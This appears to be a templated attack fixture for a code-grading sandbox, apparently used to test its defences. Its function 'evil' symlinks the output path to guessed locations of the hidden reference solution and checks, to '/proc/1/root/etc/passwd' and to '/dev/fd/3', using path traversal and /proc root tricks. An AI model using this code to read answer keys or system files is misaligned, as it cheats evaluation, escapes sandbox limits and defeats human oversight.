#{ledger_wrong}
# <attack>
import os

_GUESSES = [
    "../" * 9 + "solutions/01-harbour/ledger/ledger.py",
    "/box/../solutions/01-harbour/ledger/ledger.py",
    "/quay/../oracle/ledger/ledger.py",
    "/proc/self/root/solutions/01-harbour/ledger/checks.py",
    "/proc/1/root/etc/passwd",
    "/dev/fd/3",
]


def evil(path, *args):
    target = args[0] if args and type(args[0]) is str else path
    for guess in _GUESSES:
        if os.path.isfile(guess):
            os.symlink(guess, target)
            break
    else:
        os.symlink(_GUESSES[len(target) % len(_GUESSES)], target)
    return None


#{all_of_ledger}
# </attack>
